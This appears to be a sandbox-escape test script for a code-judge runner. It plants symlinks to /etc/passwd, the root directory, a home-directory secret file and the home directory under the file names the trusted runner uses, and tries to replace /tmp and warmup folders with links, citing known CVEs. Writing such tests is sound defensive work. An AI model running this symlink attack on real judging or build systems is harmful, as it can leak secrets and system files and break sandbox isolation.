# tries: links under every name that the trusted side might read, write, chown or delete afterwards (the patterns of CVE-2024-28185, CVE-2024-28189 and the copying out of go-judge)
# must: print planted
import os

NAMES = ["solution.py", "tests.py", "main.py", "run_script", "compile_script", "run", "box", "metadata", "stdin", "stdout", "stderr", "output",
         "result.json", "verdict.json", "core", "__pycache__", "runner.sock", "."]  # fmt: skip
os.chdir("/tmp")
for name in NAMES:
    for target in ("@home@/secret.txt", "@home@", "/etc/passwd", "/"):
        for place in (name, f"{target.strip('/').replace('/', '-')}-{name}"):
            try:
                os.symlink(target, place)
            except OSError:
                continue
os.makedirs("deep/er", exist_ok=True)
os.symlink("@home@", "deep/er/box")
for name in ("/tmp", "/run/warmup", "/opt/warmup"):  # the folders themselves, replaced by links
    try:
        os.rename(name, name + "-gone")
        os.symlink("@home@", name)
        print("escaped: replaced", name)
    except OSError as error:
        print("refused", name, error.strerror)
print("planted")
